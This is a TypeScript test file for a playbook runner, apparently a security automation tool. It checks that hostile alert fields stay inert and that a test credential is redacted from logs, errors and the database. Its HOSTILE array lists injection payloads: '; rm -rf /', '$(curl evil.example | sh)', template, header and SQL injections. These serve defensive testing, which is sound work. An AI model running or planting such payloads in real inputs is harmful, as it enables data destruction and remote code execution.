import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { z } from 'zod';
import { ActionFailure, type ActionDefinition, type AnyActionDefinition } from '../../core/respond/action.js';
import { makeSecret } from '../../core/respond/secret.js';
import { openSqliteDatabase } from '../store/sqlite-database.js';
import { createActionRegistry } from './action-registry.js';
import { PlaybookJournal } from './journal-store.js';
import { PlaybookRunner } from './runner.js';
import { compileForTest, startServer, testHttpAction } from './engine-testing.js';

const dir = mkdtempSync(join(tmpdir(), 'vigil-safety-'));
after(() => {
  rmSync(dir, { recursive: true, force: true });
});

const HOSTILE = [
  '; rm -rf /',
  '$(curl evil.example | sh)',
  '`id`',
  '{{ 7*7 }}',
  '${HOME}',
  '${{ steps.secret.output }}',
  "${{ lower('X') }}",
  'line1\nX-Injected: yes\r\n\r\nbody',
  "' or 1=1 --",
];

test('hostile alert data reaches the action as inert data, byte for byte', async () => {
  const seen: unknown[] = [];
  const capture: ActionDefinition<{ user: string; text: string; list: string[] }, { ok: boolean }> = {
    id: 'test.capture',
    summary: 'records its input',
    effect: 'write',
    secrets: [],
    input: z.strictObject({ user: z.string(), text: z.string(), list: z.array(z.string()) }),
    output: z.object({ ok: z.boolean() }),
    plan: () => 'capture',
    run: (i) => {
      seen.push(i);
      return Promise.resolve({ ok: true });
    },
  };
  const server = await startServer((_r, _n, res) => res.writeHead(200).end());
  const actions = createActionRegistry([capture as unknown as AnyActionDefinition, testHttpAction('test.post', 'write')]);
  const runner = new PlaybookRunner({ journal: new PlaybookJournal(openSqliteDatabase(join(dir, 'inject.db'))), actions });
  const pb = compileForTest(
    `name: inject
trigger: { type: alert_created }
steps:
  - id: capture
    action: test.capture
    for_each: alert.related.user
    with: { user: "\${{ item }}", text: "user=\${{ item }}; ip=\${{ alert.source.ip }}", list: ["\${{ item }}"] }
  - id: post
    action: test.post
    for_each: alert.related.user
    with: { url: "${server.url}/hook", body: { user: "\${{ item }}", note: "\${{ item }}" } }
`,
    actions,
  );
  const r = await runner.start(pb, { type: 'alert_created', alert: { source: { ip: '${{ run.id }}' }, related: { user: HOSTILE } } });
  assert.equal(r.status, 'succeeded', r.error ?? '');
  assert.deepEqual(
    seen,
    HOSTILE.map((u) => ({ user: u, text: `user=${u}; ip=\${{ run.id }}`, list: [u] })),
  );
  const bodies = server.requests.map((q) => JSON.parse(q.body) as { user: string; note: string });
  assert.deepEqual(bodies.map((b) => b.user), HOSTILE);
  assert.deepEqual(bodies.map((b) => b.note), HOSTILE);
  await server.close();
});

test('a secret never reaches the journal, the logs, errors or results', async () => {
  const SECRET = 'sk-live-TOPSECRET-4f9a7c';
  // A hostile or buggy server echoes the credential everywhere it can.
  const server = await startServer((req, n, res) => {
    const auth = String(req.headers.authorization);
    if (n === 1) res.writeHead(500).end(auth);
    else res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ echoed: auth }));
  });
  const leaky: ActionDefinition<{ x: string }, { x: string }> = {
    id: 'test.leaky',
    summary: 'puts its secret in logs and errors',
    effect: 'write',
    secrets: ['TEST_TOKEN'],
    input: z.strictObject({ x: z.string() }),
    output: z.object({ x: z.string() }),
    plan: () => 'leak',
    run: (_i, ctx) => {
      const v = ctx.secrets.get('TEST_TOKEN')!.reveal();
      ctx.log(`using ${v}`, { token: v, handle: ctx.secrets.get('TEST_TOKEN') });
      return Promise.reject(new ActionFailure(`server rejected token ${v}`, { retryable: false }));
    },
  };
  const actions = createActionRegistry([testHttpAction('test.post', 'write', { secret: 'TEST_TOKEN' }), leaky as unknown as AnyActionDefinition]);
  const dbPath = join(dir, 'secret.db');
  const db = openSqliteDatabase(dbPath);
  const lines: unknown[] = [];
  const runner = new PlaybookRunner({
    journal: new PlaybookJournal(db),
    actions,
    secrets: (name) => (name === 'TEST_TOKEN' ? makeSecret(name, SECRET) : undefined),
    clock: { sleep: () => Promise.resolve() },
    log: (l) => lines.push(l),
  });
  const pb = compileForTest(
    `name: secret
trigger: { type: alert_created }
steps:
  - id: post
    action: test.post
    retry: { max_attempts: 3 }
    with: { url: "${server.url}/x", body: { note: "\${{ alert.message }}" } }
  - id: leak
    action: test.leaky
    on_error: continue
    with: { x: "\${{ steps.post.output.body.echoed }}" }
`,
    actions,
  );
  // The alert itself carries the secret too (pasted by someone), and it is redacted as well.
  const r = await runner.start(pb, { type: 'alert_created', alert: { message: `token is ${SECRET}` } });
  await server.close();
  assert.equal(r.status, 'succeeded', r.error ?? '');
  assert.equal(server.requests[1]!.headers.authorization, `Bearer ${SECRET}`, 'the action did get the secret');
  const stepsText = JSON.stringify(r.steps);
  assert.match(stepsText, /\[secret:TEST_TOKEN\]/);
  assert.ok(!stepsText.includes(SECRET));
  assert.ok(!JSON.stringify(lines).includes(SECRET));
  assert.ok(JSON.stringify(lines).includes('[secret:TEST_TOKEN]'));
  db.pragma('wal_checkpoint(TRUNCATE)');
  db.close();
  for (const f of readdirSync(dir).filter((n) => n.startsWith('secret.db'))) {
    assert.ok(!readFileSync(join(dir, f)).includes(SECRET), `${f} holds the secret`);
  }
  const reopened = new PlaybookJournal(openSqliteDatabase(dbPath));
  const everything = JSON.stringify([reopened.getRun(r.runId), reopened.listSteps(r.runId), reopened.listAttempts(r.runId), reopened.listLogs(r.runId)]);
  assert.ok(everything.includes('[secret:TEST_TOKEN]'));
  assert.ok(!everything.includes(SECRET));
});
